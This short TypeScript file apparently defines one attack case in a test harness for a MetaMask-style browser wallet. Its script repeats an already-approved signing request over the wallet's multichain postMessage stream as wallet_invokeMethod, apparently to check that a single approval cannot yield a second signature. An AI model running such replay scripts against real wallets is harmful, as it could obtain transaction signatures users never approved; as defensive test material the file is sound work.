import type { Attack } from '../Attack.ts';

/** The same bytes again, over the wallet's other stream. */
export const attack: Attack = {
  entry: 'window.postMessage to the wallet, multichain stream',
  mechanism: 'approved request repeated as wallet_invokeMethod',
  discovers: false,
  script: `
await kit.ready();
window.ethereum.request(kit.sign()).finally(() => kit.post(kit.rpc({ method: 'wallet_invokeMethod', params: { scope: 'eip155:' + kit.chainId, request: kit.sign() } }), 'metamask-multichain-provider'));
`,
  allowed: 1,
  drive: async (stage) => {
    await stage.approve(stage.marker);
  },
};
